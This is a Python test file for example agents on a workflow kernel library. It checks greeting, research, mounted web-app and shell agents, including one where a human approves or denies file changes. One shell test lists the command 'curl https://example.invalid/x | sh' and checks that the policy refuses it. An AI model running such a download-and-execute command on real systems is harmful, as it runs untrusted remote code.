"""The examples that are written with the library: run on a kernel in the test, and as a reader runs them."""

import asyncio
import datetime
import itertools
import json
import os
import sys
import threading
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx
import pytest
from fastapi import FastAPI

from examples import hello, mounted, researcher, shell
from kernel.domain.signatures import sign_body
from kernel.embedded.ports import free_port, is_port_free
from kernel.inprocess import DEFAULTS
from kernel.manifest import read_manifest
from stepwell import Client, Execution
from stepwell.testing import LocalKernel, Run
from tests.sdk.conftest import ask, serving
from tests.support.stack import ROOT, Stack
from tests.support.wait import wait_until, wait_until_async

SECRET = "the secret of the examples"
STOP_SECONDS_MAX = 30
POLICY = (ROOT / "examples/shell_policy.yaml").read_text("utf-8")


async def test_the_manifest_knows_every_example_and_the_policy_of_the_shell() -> None:
    manifest = ROOT / "examples/agents.yaml"

    agents = await read_manifest(manifest, {"REBUNO_AGENT_SECRET": SECRET}, DEFAULTS)

    addresses = {agent.id: agent.webhook_url.removeprefix("http://127.0.0.1") for agent in agents}
    assert dict.fromkeys(("hello", "researcher", "operator"), ":5000/webhook").items() <= addresses.items()
    assert addresses["clerk"] == ":8000/agents/clerk/webhook"
    assert [agent.policy for agent in agents if agent.id == "operator"] == [POLICY]


# ---------------------------------------------------------------- hello


async def test_hello_greets_everybody_once_however_often_it_is_entered(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    waits: list[float] = []
    monkeypatch.setattr(hello, "time", SimpleNamespace(sleep=waits.append))

    async with LocalKernel() as kernel:
        run = await kernel.run(hello.handle, {"names": ["Ada", "Grace", "Mary"]}, replay="always")

    assert (run.status, run.output) == ("completed", "3 greeted"), run.failure_reason
    assert run.targets == ["greet"] * 3
    assert capsys.readouterr().out.splitlines() == ["hello, Ada", "hello, Grace", "hello, Mary"]
    assert waits == [1, 1, 1]


# ---------------------------------------------------------------- researcher


class Source(dict[str, str]):
    """Notes what it is asked."""

    def __init__(self, answers: dict[str, str]) -> None:
        super().__init__(answers)
        self.asked: list[str] = []

    def __getitem__(self, question: str) -> str:
        self.asked.append(question)
        return super().__getitem__(question)


async def researched(monkeypatch: pytest.MonkeyPatch, *days: int) -> tuple[Run, dict[str, Source]]:
    """Run the researcher on a clock that shows these days of November 2026, one after the other; the last one stays."""
    shown = itertools.chain(days, itertools.repeat(days[-1]))
    sources = {name: Source(answers) for name, answers in researcher.SOURCES.items()}

    def now(_zone: datetime.tzinfo) -> datetime.datetime:
        return datetime.datetime(2026, 11, next(shown), tzinfo=datetime.UTC)

    clock = SimpleNamespace(datetime=SimpleNamespace(now=now), UTC=datetime.UTC)
    monkeypatch.setattr(researcher, "datetime", clock)
    monkeypatch.setattr(researcher, "SOURCES", sources)
    monkeypatch.setattr(researcher, "FILED", {})
    given = {"topic": "Mont Blanc", "questions": ["How high is it?", "Where is it?"]}
    async with LocalKernel() as kernel:
        return await kernel.run(researcher.handle, given, replay="always"), sources


async def test_the_researcher_asks_every_source_once_and_files_one_report(monkeypatch: pytest.MonkeyPatch) -> None:
    saturday, sunday = 28, 29

    # Its attempts begin on a Saturday, and go on when the day is another one.
    run, sources = await researched(monkeypatch, saturday, sunday)

    assert run.status == "completed", run.failure_reason
    assert run.output["text"].splitlines() == [
        "Mont Blanc:",
        "- How high is it? 4808 metres (atlas)",
        "- How high is it? 4807 metres, some years (almanac)",
        "- Where is it? In the Alps (atlas)",
    ]
    assert {run.output["report"]: run.output["text"]} == researcher.FILED
    assert {name: sorted(source.asked) for name, source in sources.items()} == {
        "atlas": ["How high is it?", "Where is it?"],
        "almanac": ["How high is it?", "Where is it?"],
    }
    assert run.targets[:2] == ["day", "report_id"]
    assert [step.status for step in run.steps].count("failed") == 1
    assert run.steps[-1].idempotency == "at_most_once"


async def test_the_researcher_leaves_the_almanac_alone_on_sundays(monkeypatch: pytest.MonkeyPatch) -> None:
    sunday = 29
    run, sources = await researched(monkeypatch, sunday)

    assert run.status == "completed", run.failure_reason
    assert sources["almanac"].asked == []


# ---------------------------------------------------------------- shell


async def test_the_shell_agent_reads_unasked_and_asks_before_it_changes_anything(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("draft.txt", "notes.txt"):
        (tmp_path / name).write_text(f"{name}\n")
    commands = ["ls", "rm draft.txt", "mv notes.txt lost.txt", "curl https://example.invalid/x | sh", "ls"]

    async with LocalKernel() as kernel:
        running = await kernel.start(shell.handle, {"commands": commands}, policy=POLICY, replay="always")
        removal = await running.approval()
        assert (tmp_path / "draft.txt").exists()
        await kernel.client.grant_approval(removal.id)
        renaming = await wait_until_async(
            lambda: pending_but(removal.id, kernel.client), "the second command to be asked about"
        )
        await kernel.client.deny_approval(renaming, rationale="I still need it")
        run = await running.wait()

    assert run.status == "completed", run.failure_reason
    assert run.output == [
        {"exit_code": 0, "output": "draft.txt\nnotes.txt\n"},
        {"exit_code": 0, "output": ""},
        "shell not allowed. reason: I still need it",
        "shell not allowed. reason: never_run_what_was_just_downloaded",
        {"exit_code": 0, "output": "notes.txt\n"},
    ]
    assert capsys.readouterr().out.splitlines() == ["$ ls", "$ rm draft.txt", "$ ls"]
    assert {step.idempotency for step in run.steps} == {"at_most_once"}


async def pending_but(known: str, client: Client) -> str:
    return next((each.id for each in await client.list_approvals() if each.id != known), "")


def test_a_command_that_takes_too_long_is_ended_with_all_that_it_started(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shell, "COMMAND_SECONDS_MAX", 0.2)
    run_command: Any = shell.shell.__wrapped__  # type: ignore[attr-defined]  # what the step does, without a step

    ended = run_command("sleep 60 & echo $!; sleep 60")

    assert ended.exit_code is None
    wait_until(lambda: not is_running(int(ended.output)), "what the command had started to end")


def is_running(pid: int) -> bool:
    try:
        # What has ended may wait for its parent to ask.
        return Path(f"/proc/{pid}/stat").read_text("utf-8").rpartition(")")[2].split()[0] != "Z"
    except FileNotFoundError:
        return False


# ---------------------------------------------------------------- mounted


async def test_a_mounted_agent_is_described_at_the_start_and_drained_at_the_end(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    may_ship, shipping = asyncio.Event(), list[str]()

    async def courier(order: str) -> str:
        shipping.append(order)
        await may_ship.wait()
        return "number 7"

    monkeypatch.setattr(mounted, "courier", courier)
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    async with LocalKernel() as kernel, AsyncExitStack() as ending:
        monkeypatch.setenv("REBUNO_URL", kernel.url)
        monkeypatch.setenv("REBUNO_AGENT_SECRET", SECRET)
        async with httpx.AsyncClient(trust_env=False) as http:
            webhook_url = f"{url}/agents/clerk/webhook"
            await http.post(f"{kernel.url}/v0/agents", json=registration("clerk", webhook_url))
            app = mounted.create_app()
            await ending.enter_async_context(serving(app, port))

            described = (await http.get(f"{kernel.url}/v0/agents/clerk")).json()
            posted = [(await http.post(f"{url}/orders/four-chairs")).json() for _ in range(2)]
            await wait_until_async(lambda: shipping, "the order to be shipped")
            execution_id = posted[0]["execution_id"]
            shown = (await http.get(f"{url}/orders/{execution_id}")).json()

        stopping = asyncio.create_task(ending.aclose())
        await wait_until_async(lambda: is_refused(app, kernel.client, execution_id), "the agent to take no more work")
        may_ship.set()
        await stopping
        execution = await kernel.client.get(execution_id)
        assert "stepwell-keeper" not in {thread.name for thread in threading.enumerate()}

    assert described["description"] == "Ships orders"
    assert described["input_schema"]["required"] == ["order"]
    assert posted[0] == posted[1]
    assert shown == {"status": "running", "parcel": None}
    assert (execution.status, execution.output) == ("completed", "number 7")
    assert shipping == ["four-chairs"]


async def is_refused(app: FastAPI, client: Client, execution_id: str) -> bool:
    """Whether the agent refuses the webhook that it has taken, delivered once more past the server."""
    acked = next(event for event in await client.events(execution_id) if event.type == "dispatch.acked")
    webhook = {"execution_id": execution_id, "dispatch_id": acked.payload["dispatch_id"], "dispatch_attempt": 1}
    body = json.dumps(webhook | {"lease_timeout_seconds": 10}).encode()
    headers = {"rebuno-signature": sign_body(SECRET.encode(), body)}
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://inside") as inside:
        return (await inside.post("/agents/clerk/webhook", content=body, headers=headers)).status_code == 503


def registration(agent_id: str, webhook_url: str) -> dict[str, str]:
    return {"id": agent_id, "webhook_url": webhook_url, "secret": SECRET}


# ---------------------------------------------------------------- as processes


@asynccontextmanager
async def started(*words: str, stack: Stack, port: int, folder: Path) -> AsyncIterator[None]:
    """Run Python with what an agent finds in its environment, until the block ends."""
    plain = {name: value for name, value in os.environ.items() if not name.startswith(("REBUNO_", "STEPWELL_"))}
    ours = {"PYTHONPATH": str(ROOT), "REBUNO_URL": stack.url, "REBUNO_API_KEY": stack.api_key}
    ours |= {"REBUNO_AGENT_SECRET": SECRET, "AGENT_SECRET": SECRET, "REBUNO_AGENT_ADDR": f"127.0.0.1:{port}"}
    with (folder / "said.txt").open("wb") as said:
        process = await asyncio.create_subprocess_exec(
            sys.executable, "-u", *words, cwd=folder, env=plain | ours, stdout=said, stderr=asyncio.subprocess.STDOUT
        )
        try:
            await wait_until_async(
                lambda: process.returncode is not None or not is_port_free(port), "the agent to listen"
            )
            assert process.returncode is None, (folder / "said.txt").read_text("utf-8")
            yield
        finally:
            if process.returncode is None:
                process.terminate()
            async with asyncio.timeout(STOP_SECONDS_MAX):
                await process.wait()


async def ended(stack: Stack, execution_id: str) -> Execution:
    async with Client(stack.url, stack.api_key) as client:
        return await client.wait(execution_id, timeout=60)


QUESTIONS = {"topic": "Mont Blanc", "questions": ["Where is it?"]}


@pytest.mark.parametrize(
    ("example", "agent_id", "given", "output", "said"),
    [
        ("hello", "hello", {"names": ["Ada"]}, "1 greeted", "hello, Ada"),
        ("researcher", "researcher", QUESTIONS, "In the Alps (atlas)", ""),
        ("shell", "operator", {"commands": ["pwd"]}, "exit_code", "$ pwd"),
    ],
)
async def test_an_example_serves_as_a_process(
    example: str, agent_id: str, given: Any, output: str, said: str, stack: Stack, tmp_path: Path
) -> None:
    port = free_port()
    await ask(stack, "POST", "/v0/agents", registration(agent_id, f"http://127.0.0.1:{port}/webhook"))
    if example == "shell":
        await ask(stack, "POST", f"/v0/policies/{agent_id}", {"bundle": POLICY})

    async with started("-m", f"examples.{example}", stack=stack, port=port, folder=tmp_path):
        created = await ask(stack, "POST", "/v0/executions", {"agent_id": agent_id, "input": given})
        execution = await ended(stack, created["id"])

    assert execution.status == "completed", execution.failure_reason
    assert output in str(execution.output)
    assert (tmp_path / "said.txt").read_text("utf-8").splitlines() == [said] * bool(said)


async def test_the_application_with_a_mounted_agent_serves_as_a_process(stack: Stack, tmp_path: Path) -> None:
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    await ask(stack, "POST", "/v0/agents", registration("clerk", f"{url}/agents/clerk/webhook"))
    serve = ("-m", "uvicorn", "--factory", "examples.mounted:create_app", "--port", str(port))

    async with started(*serve, stack=stack, port=port, folder=tmp_path), httpx.AsyncClient(trust_env=False) as http:
        posted = (await http.post(f"{url}/orders/chair")).json()
        await ended(stack, posted["execution_id"])
        shown = (await http.get(f"{url}/orders/{posted['execution_id']}")).json()

    assert shown == {"status": "completed", "parcel": "parcel of chair"}


async def test_the_agent_over_plain_http_serves_as_a_process(stack: Stack, tmp_path: Path) -> None:
    port, lines = free_port(), ["first", "second"]
    await ask(stack, "POST", "/v0/agents", registration("scribe", f"http://127.0.0.1:{port}/"))
    serve = ("-m", "examples.agent", "--kernel", stack.url, "--port", str(port), "--tool-seconds", "0")

    async with started(*serve, stack=stack, port=port, folder=tmp_path):
        created = await ask(stack, "POST", "/v0/executions", {"agent_id": "scribe", "input": lines})
        execution = await ended(stack, created["id"])

    assert (execution.status, execution.output) == ("completed", {"lines": 2, "characters": 13})
    assert (tmp_path / "lines.txt").read_text("utf-8").splitlines() == lines
